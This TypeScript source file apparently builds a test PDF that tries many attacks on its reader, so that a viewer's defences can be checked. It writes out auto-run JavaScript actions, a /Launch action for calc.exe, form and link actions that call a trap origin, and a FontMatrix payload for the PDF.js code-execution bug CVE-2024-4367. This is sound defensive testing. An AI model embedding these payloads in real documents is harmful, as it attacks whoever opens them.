// Makes a one-page PDF that tries every attack that a PDF can attempt on its reader.
import { utf8, type Bytes } from '#protocol/bytes'

/** The words of the page, in a font that every PDF reader has. */
export const HOSTILE_WORDS = 'Read me 4711'

const textOf = (words: string): string => {
  const drawn = `BT /F1 40 Tf 40 700 Td (${words}) Tj ET BT /F2 20 Tf 40 500 Td (x) Tj ET /Im1 Do`
  return `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`
}

/** @param trap  the origin that the PDF tries to reach */
export function hostilePdf(trap: string): Bytes {
  const script = (code: string): string => `<< /S /JavaScript /JS (${code}) >>`
  const uri = `<< /S /URI /URI (${trap}/uri) >>`
  const call = 'globalThis.hit = 1; app.alert\\(1\\); app.launchURL\\("/launch"\\)'
  const form = `<< /S /SubmitForm /F << /FS /URL /F (${trap}/form) >> >>`
  const program = '<< /S /Launch /F (calc.exe) >>'
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script(call)} /AcroForm << /Fields [7 0 R] >>
      /AA << /WC ${script(call)} >> /URI << /Base (${trap}/base) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R 7 0 R]
      /Resources << /Font << /F1 5 0 R /F2 9 0 R >> /XObject << /Im1 8 0 R >> >>
      /AA << /O ${uri} /C ${form} >> >>`,
    textOf(HOSTILE_WORDS),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${uri} /PA ${program} >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 595 400] /V (${HOSTILE_WORDS})
      /AA << /K ${script(call)} /Fo ${script(call)} /D ${form} >> >>`,
    // A picture whose data is at another URL.
    `<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /Length 0
      /ColorSpace /DeviceGray /F << /FS /URL /F (${trap}/picture) >> >>\nstream\n\nendstream`,
    // A font with a matrix that an earlier PDF.js executed as code (CVE-2024-4367).
    `<< /Type /Font /Subtype /Type1 /BaseFont /Own /FirstChar 120 /LastChar 120 /Widths [500]
      /FontMatrix [1 2 3 4 5 (0\\); globalThis.hit = 1//)] >>`,
  ])
}

/** Writes the objects one after another, with the table of their positions. */
function pdfOf(objects: readonly string[]): Bytes {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, at) => {
    const place = text.length
    text += `${String(at + 1)} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const size = String(objects.length + 1)
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`
  const end = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${String(text.length)}\n%%EOF`
  return utf8(text + table + end)
}
